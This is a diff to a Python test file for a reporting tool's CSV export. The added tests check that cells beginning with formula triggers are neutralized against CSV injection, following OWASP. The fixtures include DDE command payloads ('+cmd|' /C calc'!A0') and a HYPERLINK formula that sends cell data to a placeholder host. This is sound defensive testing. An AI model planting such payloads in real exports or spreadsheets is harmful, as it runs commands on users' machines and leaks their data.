@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import re
+from dataclasses import replace
 from functools import cache
 from typing import Any
 
 import pytest
 
 from connector.reports.build import REPORTS, ReportOptions, build_report
-from connector.reports.render import render_csv, render_html
+from connector.reports.render import _columns, _tables, csv_cell, render_csv, render_html
 from tests import helpers
 from tests.helpers import AGENT, CUSTOMER
 from tests.report_support import CHARTS, NOW, example_config, example_events, read_page, shown
@@ -72,7 +73,7 @@ def test_sla_csv_is_the_rows_table_with_the_same_numbers():
     report = _report("sla")
     text = render_csv(report)
     parsed = list(csv.DictReader(io.StringIO(text)))
-    assert text.splitlines()[0].split(",") == list(report["rows"][0])   # the JSON's column order
+    assert next(csv.reader(io.StringIO(text))) == list(report["rows"][0])   # the JSON's column order
     _assert_rows(parsed, report["rows"])
     assert len(text.splitlines()) == len(report["rows"]) + 1           # the breach list is not in the CSV
     assert report["breaches"] and "late_seconds" not in text
@@ -110,7 +111,7 @@ def test_kpis_csv_has_one_table_per_section():
     text = render_csv(report)
     tables = _sections(text)
     assert list(tables) == ["backlog", "trends", "reopens", "paused", "escalations", "groups"]
-    assert text.startswith("# backlog\nseverity,<1d,1-3d,3-7d,7-30d,>30d,total\n")
+    assert text.startswith('# backlog\n"severity","<1d","1-3d","3-7d","7-30d",">30d","total"\n"P1",')
     _assert_rows(tables["backlog"], report["backlog"]["rows"])
     _assert_rows(tables["trends"], report["trends"])
     _assert_rows(tables["reopens"], [report["reopens"]])
@@ -160,9 +161,8 @@ def test_an_empty_report_has_headers_and_no_rows(name: str):
     report = _empty(name)
     text = render_csv(report)
     if name in ("sla", "credits"):
-        header, *rows = text.splitlines()
-        assert rows == [] and header.split(",")[:2] == (["metric", "severity"] if name == "sla"
-                                                         else ["contract", "organizations"])
+        header, *rows = csv.reader(io.StringIO(text))
+        assert rows == [] and header[:2] == (["metric", "severity"] if name == "sla" else ["contract", "organizations"])
     else:
         tables = _sections(text)
         sections = 6 if name == "kpis" else 7   # kpis: backlog … groups; audit: confusion … findings
@@ -280,3 +280,125 @@ def test_an_unknown_report_is_refused():
         render_html({"report": "nope"})
     with pytest.raises(ValueError, match="unknown report"):
         render_csv({"report": "nope"})
+
+
+# --- CSV formula injection (issue 11; OWASP "CSV Injection") -----------------------------------------------
+
+FORMULAS = {"source": "=src", "account": "+acct", "ticket": "-2+3+cmd|' /C calc'!A0",
+            "group": '=HYPERLINK("http://x.test/?"&A1,"help")', "org": "@SUM(1)", "assignee": "+cmd|' /C calc'!A0",
+            "org2": "Acme;=1+2"}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _formula_config():
+    return helpers.config(
+        priority_map={FORMULAS["source"]: {"normal": "P3", "urgent": "P1"}},
+        classification={"default": "P3", "rules": [{"name": "+rule", "severity": "P1", "when": {"text": "(?i)down"}}]},
+        escalations=[{"name": "-esc", "when": {"metric": "first_response", "breached": True},
+                      "actions": [{"add_tags": ["late"]}]}],
+        contracts=[{"name": "=contract()", "organizations": [FORMULAS["org"], FORMULAS["org2"]],
+                    "credits": [{"below": "99%", "credit": "5%"}]}])
+
+
+def _formula_events() -> list:
+    """Two tickets whose every identifier is a formula; one pauses right after a customer reply (a finding)."""
+    out = []
+    for n, org, subject in ((1, FORMULAS["org"], "site down"), (2, FORMULAS["org2"], "help")):
+        common = dict(source=FORMULAS["source"], account=FORMULAS["account"], ticket_id=f"{FORMULAS['ticket']}{n}",
+                      org=org, group=FORMULAS["group"], created="2026-03-02 10:00", subject=subject)
+        out += [helpers.event("2026-03-02 10:00", "ticket.created", status="new", **common),
+                helpers.event("2026-03-02 16:00", "comment.added", comment=AGENT, **common),
+                helpers.event("2026-03-02 16:30", "comment.added", comment=CUSTOMER, **common),
+                helpers.event("2026-03-02 16:35", status="pending", **common)]
+    return [replace(e, ticket=replace(e.ticket, assignee=FORMULAS["assignee"])) for e in out]
+
+
+def _formula_report(name: str) -> dict[str, Any]:
+    options = ReportOptions(by=("group", "org", "source"), period="month") if name == "sla" else ReportOptions()
+    return build_report(name, _formula_config(), events=_formula_events(), now=helpers.utc("2026-03-04 12:00"),
+                        options=options)
+
+
+def _csv_tables(text: str) -> list[list[list[str]]]:
+    """Every table of a CSV report as rows of cells (headers first), `# section` lines left out."""
+    return [[row for row in csv.reader(io.StringIO(block)) if row and not row[0].startswith("# ")]
+            for block in text.strip("\n").split("\n\n")]
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(name: str):
+    report = _formula_report(name)
+    text = render_csv(report)
+    tables = _csv_tables(text)
+    expected = [(rows, _columns(rows, fallback)) for _, rows, fallback in _tables(report)]
+    if name in ("sla", "credits"):
+        expected = expected[:1]   # the sla breach list is not part of the CSV
+    assert len(tables) == len(expected)
+    neutralized = 0
+    for (header, *cells), (rows, columns) in zip(tables, expected, strict=True):
+        assert header == columns
+        assert len(cells) == len(rows)
+        for got, row in zip(cells, rows, strict=True):
+            for cell, column in zip(got, columns, strict=True):
+                value = row.get(column)
+                if value is None:
+                    assert cell == ""
+                elif isinstance(value, int | float) and not isinstance(value, bool):
+                    assert float(cell) == value        # a number is written as the number, never prefixed
+                elif str(value).startswith(TRIGGERS):
+                    assert cell == "'" + str(value), (column, cell)
+                    neutralized += 1
+                else:
+                    assert cell == str(value), (column, cell)
+                assert not cell.startswith(TRIGGERS), (column, cell)
+    # every formula reached the CSV: sla 2 rows × (group, source, org) but "Acme;=1+2"; credits the contract and
+    # its organizations; kpis 2 escalations and the group; audit org, group, agent, rule, 2 findings × 4 + org
+    assert neutralized == {"sla": 5, "credits": 2, "kpis": 3, "audit": 13}[name]
+    # text is quoted, so a `;` inside a cell cannot start a new one in a spreadsheet that splits on it
+    if name in ("sla", "audit"):
+        assert '"Acme;=1+2"' in text
+    if name != "credits":   # quoted, the inner quotes doubled, the formula prefixed
+        assert "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"help\"\")\"" in text
+
+
+def test_each_text_column_of_the_reports_is_neutralized():
+    seen = {}
+    for name in REPORTS:
+        for header, *rows in _csv_tables(render_csv(_formula_report(name))):
+            for row in rows:
+                for column, cell in zip(header, row, strict=True):
+                    if cell.startswith("'"):
+                        seen.setdefault(column, cell)
+    # group, organization, agent, source, account, ticket, contract, rule and escalation names: every text column
+    assert {"group", "org", "agent", "source", "ticket_source", "ticket_account", "ticket_id", "contract",
+            "organizations", "rule", "escalation"} <= set(seen), sorted(seen)
+    assert seen["agent"] == "'" + FORMULAS["assignee"] and seen["org"] in ("'" + FORMULAS["org"],)
+
+
+def test_csv_cell_follows_owasp():
+    for trigger in TRIGGERS:
+        assert csv_cell(f"{trigger}1+2") == f"'{trigger}1+2"
+    for safe in ("Acme", "P1", "2026-03", "(all)", "<1d", " =1", "'=1", "１+1", ""):
+        assert csv_cell(safe) == safe
+    for number in (-5, -0.5, 0, 12.25, -2.0):
+        assert csv_cell(number) == number    # a negative number we computed stays a number
+    assert csv_cell(None) == "" and csv_cell(True) == "True" and csv_cell(["x"]) == "['x']"
+
+
+def test_a_negative_number_is_written_bare_and_text_that_looks_like_one_is_not():
+    report = dict(_report("sla"))
+    report["rows"] = [{**report["rows"][0], "breach_seconds": -5, "p50_seconds": -0.5, "policy": "-5"}]
+    line = render_csv(report).splitlines()[1]
+    assert line.endswith(",-5") and ",-0.5," in line  # breach_seconds is the last column; both bare
+    assert "\"'-5\"" in line                           # the policy is text: quoted, prefixed
+    (row,) = csv.DictReader(io.StringIO(render_csv(report)))
+    assert row["breach_seconds"] == "-5" and row["p50_seconds"] == "-0.5" and row["policy"] == "'-5"
+
+
+def test_control_characters_at_the_start_of_a_stored_name_are_neutralized():
+    # ingest refuses them today, but a store filled by an older version may hold them
+    report = dict(_report("kpis"))
+    report["groups"] = [{"group": name, "created": 1, "open": 1, "top_severity": 0}
+                        for name in ("\t=1+2", "\r=1+2", "\n=1+2", "@x")]
+    groups = _sections(render_csv(report))["groups"]
+    assert [g["group"] for g in groups] == ["'\t=1+2", "'\r=1+2", "'\n=1+2", "'@x"]
